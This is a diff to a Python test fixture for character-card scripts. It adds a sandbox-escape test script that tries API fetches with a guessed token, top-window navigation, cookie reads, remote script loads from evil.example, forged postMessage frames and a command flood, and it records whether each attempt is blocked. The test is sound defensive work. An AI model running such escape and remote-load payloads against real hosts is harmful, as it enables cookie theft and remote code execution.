@@ -52,6 +52,38 @@ LOOP = """
 eventOnButton('卡死', () => { while (true) {} });
 """
 
+# Every way out a script tries (issue 46 item 11), each noted with what it got; "escaped" would be one.
+ATTACK = """
+const tried = [];
+const note = (what, result) => tried.push(what + ':' + result);
+(async () => {
+  try { await fetch('/api/cards'); note('fetch', 'escaped'); } catch (e) { note('fetch', e.name); }
+  try { await fetch('/api/cards?token=猜的'); note('token', 'escaped'); } catch (e) { note('token', e.name); }
+  try { window['top'].location.href = '/settings'; note('top', 'escaped'); } catch (e) { note('top', e.name); }
+  try { top.location.href = '/settings'; note('host-top', 'escaped'); } catch (e) { note('host-top', e.name); }
+  try { note('popup', window.open('/settings') ? 'escaped' : 'null'); } catch (e) { note('popup', e.name); }
+  try { note('cookie', document.cookie ? 'escaped' : 'empty'); } catch (e) { note('cookie', e.name); }
+  try { window['top'].document.title; note('document', 'escaped'); } catch (e) { note('document', e.name); }
+  try { await import('https://evil.example/steal.js'); note('import', 'escaped'); }
+  catch (e) { note('import', 'refused'); }
+  await new Promise((resolve) => {
+    const tag = document.createElement('script');
+    tag.src = 'https://evil.example/steal2.js';
+    tag.onload = () => { note('script-src', 'escaped'); resolve(); };
+    tag.onerror = () => { note('script-src', 'blocked'); resolve(); };
+    document.head.append(tag);
+  });
+  window['top'].postMessage({ kind: 'answer', id: 1, json: '"伪造"' }, '*');
+  window['top'].postMessage({ pear: 'frame', kind: 'hello', nonce: '猜的' }, '*');
+  note('forge', 'sent');
+  const floods = [];
+  for (let i = 0; i < 400; i++) floods.push(triggerSlash('/echo ' + i).then(() => 'ok', () => 'refused'));
+  const results = await Promise.all(floods);
+  note('flood', results.filter((r) => r === 'refused').length > 0 ? 'bounded' : 'escaped');
+  $('body').append('<pre id="攻击">' + tried.join('\\n') + '</pre>');
+})();
+"""
+
 
 def _script(name: str, content: str, buttons: list[str], ident: str) -> dict[str, Any]:
     shown = [{"name": b, "visible": True} for b in buttons]
@@ -67,6 +99,7 @@ def script_card_data(*, looping: bool = False) -> dict[str, Any]:
     ]
     if looping:
         scripts.append(_script("会卡死的脚本", LOOP, ["卡死"], "0c-loop"))
+        scripts.append(_script("想逃出去的脚本", ATTACK, [], "0d-attack"))
     extensions = data["data"]["extensions"]  # type: ignore[index]
     extensions["tavern_helper"] = {"scripts": scripts, "variables": {}}
     return data
